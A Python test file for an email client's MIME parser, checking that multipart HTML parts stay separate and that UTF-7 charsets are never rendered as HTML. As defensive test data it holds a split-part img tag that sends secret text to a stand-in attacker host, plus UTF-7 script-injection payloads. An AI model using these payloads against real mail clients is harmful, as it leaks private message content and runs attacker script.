"""``ParsedMessage.parts``: every body part on its own, in order (checklist H6), and the HTML
charset policy (H7): UTF-7 and other dropped charsets never render as HTML."""

from __future__ import annotations

from client.mime import parse_message


def _mixed(*parts: str) -> bytes:
    head = (
        "From: a@example.com\r\nTo: b@example.com\r\nSubject: parts\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="B"\r\n\r\n'
    )
    body = "".join(f"--B\r\n{part}\r\n" for part in parts)
    return (head + body + "--B--\r\n").encode()


def _html(body: str, charset: str | None = "utf-8") -> str:
    param = f"; charset={charset}" if charset else ""
    return f"Content-Type: text/html{param}\r\n\r\n{body}"


def test_three_html_parts_stay_three_parts() -> None:
    raw = _mixed(_html("<img src='http://attacker.example/?"), _html("SECRET TEXT"), _html("'>"))
    parsed = parse_message(raw)
    assert [(p.kind, p.content.strip()) for p in parsed.parts] == [
        ("html", "<img src='http://attacker.example/?"), ("html", "SECRET TEXT"), ("html", "'>"),
    ]
    assert [p.part_id for p in parsed.parts] == ["1", "2", "3"]


def test_alternative_gives_one_part_and_text_parts_keep_their_place() -> None:
    alternative = (
        'Content-Type: multipart/alternative; boundary="A"\r\n\r\n'
        "--A\r\nContent-Type: text/plain\r\n\r\nplain version\r\n"
        "--A\r\nContent-Type: text/html\r\n\r\n<p>html version</p>\r\n--A--"
    )
    raw = _mixed(alternative, "Content-Type: text/plain\r\n\r\nlist footer")
    parsed = parse_message(raw)
    assert [(p.kind, p.content.strip()) for p in parsed.parts] == [
        ("html", "<p>html version</p>"), ("text", "list footer"),
    ]


def test_utf7_html_part_is_shown_as_text() -> None:
    raw = _mixed(_html("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "utf-7"))
    parsed = parse_message(raw)
    assert parsed.html is None
    (part,) = parsed.parts
    assert part.kind == "text" and part.refused_charset == "utf-7"
    assert "<script>alert(1)</script>" in part.content  # readable, but never as HTML
    assert any("utf-7" in w and "plain text" in w for w in parsed.warnings)


def test_utf7_meta_is_ignored_and_mime_charset_wins() -> None:
    body = '<meta charset="x-imap4-modified-utf7"><p>caf\xe9 &ADw-b&AD4-</p>'
    raw = _mixed(
        "Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    ).replace(b"\r\n--B--", body.encode("latin-1") + b"\r\n--B--")
    parsed = parse_message(raw)
    assert parsed.parts[0].kind == "html" and "café" in parsed.parts[0].content


def test_utf7_meta_without_mime_charset_is_never_honoured() -> None:
    raw = _mixed(_html('<meta charset="x-imap4-modified-utf7">+ADw-b+AD4-bold', None))
    parsed = parse_message(raw)
    (part,) = parsed.parts
    assert part.kind == "html" and "+ADw-b+AD4-" in part.content  # not decoded as UTF-7
    assert any("meta" in w for w in parsed.warnings)
